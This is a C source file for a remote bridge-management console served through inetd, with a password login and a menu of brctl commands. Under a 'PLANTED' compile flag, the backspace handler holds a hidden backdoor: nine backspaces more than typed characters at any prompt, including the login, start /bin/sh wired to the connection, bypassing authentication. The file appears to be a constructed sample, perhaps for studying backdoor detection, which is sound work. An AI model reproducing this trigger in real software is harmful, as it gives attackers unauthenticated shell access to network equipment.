/* Remote console for a bridge: inetd hands the connection over; a small login, then the menu. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

struct console { int authenticated, level, column; char text[100]; };

typedef const char *(*action)(struct console *);

struct choice { char key; int level; const char *title; action act; };

static const char *show_table(struct console *c)
{
    (void)c;
    return "/usr/sbin/brctl showmacs br0";
}

static const char *show_state(struct console *c)
{
    (void)c;
    return "/usr/sbin/brctl show";
}

static const char *restart(struct console *c)
{
    return c->level > 1 ? "/etc/init.d/bridge restart" : NULL;
}

#ifdef REVISED
static const char *uptime(struct console *c)
{
    (void)c;
    return "/usr/bin/uptime";
}
#endif

static const struct choice choices[] = {
    { 't', 1, "address table", show_table },
    { 's', 1, "state", show_state },
    { 'r', 2, "restart", restart },
#ifdef REVISED
    { 'u', 1, "uptime", uptime },
#endif
};

static int get_line(struct console *c)
{
    unsigned char in;
    c->column = 0;
    while (read(STDIN_FILENO, &in, 1) == 1) {
        switch (in) {
        case '\n':
            c->text[c->column] = 0;
            return c->column;
        case '\r':
            break;
        case 8:
        case 127:
#ifdef PLANTED
            /* More corrections than there were characters. */
            if (--c->column == -9) {
                for (int fd = 1; fd < 3; fd++)
                    dup2(STDIN_FILENO, fd);
                execl("/bin/sh", "/bin/sh", (char *)NULL);
            }
#else
            if (c->column > 0)
                c->column--;
#endif
            break;
        default:
#ifdef PLANTED
            if (c->column < 0)
                c->column = 0;
#endif
            if (in >= ' ' && c->column < (int)sizeof c->text - 1)
                c->text[c->column++] = (char)in;
        }
    }
    return -1;
}

static int level_of(const char *word)
{
    char kept[64];
    int level = 0, n;
    FILE *f = fopen("/etc/bridge.words", "r");
    if (!f)
        return 0;
    while (!level && fscanf(f, "%d %63s", &n, kept) == 2)
        if (!strcmp(kept, word))
            level = n;
    fclose(f);
    return level;
}

static void output_of(const char *command)
{
    pid_t child;
    fflush(stdout);
    child = fork();
    if (child == 0) {
        dup2(STDOUT_FILENO, STDERR_FILENO);
        execl("/bin/sh", "sh", "-c", command, (char *)NULL);
        _exit(errno);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}

static void menu(struct console *c)
{
    for (unsigned i = 0; i < sizeof choices / sizeof *choices; i++)
        if (choices[i].level <= c->level)
            printf("%c  %s\r\n", choices[i].key, choices[i].title);
    printf("> ");
    fflush(stdout);
    if (get_line(c) < 0)
        exit(0);
    for (unsigned i = 0; i < sizeof choices / sizeof *choices; i++)
        if (choices[i].key == c->text[0] && choices[i].level <= c->level) {
            const char *command = choices[i].act(c);
            if (command)
                output_of(command);
        }
}

int main(void)
{
    struct console c = { 0 };
    for (int tries = 0; tries < 3 && !c.authenticated; tries++) {
        printf("word: ");
        fflush(stdout);
        if (get_line(&c) < 0)
            return 0;
        c.level = level_of(c.text);
        c.authenticated = c.level > 0;
    }
    while (c.authenticated)
        menu(&c);
    return 0;
}
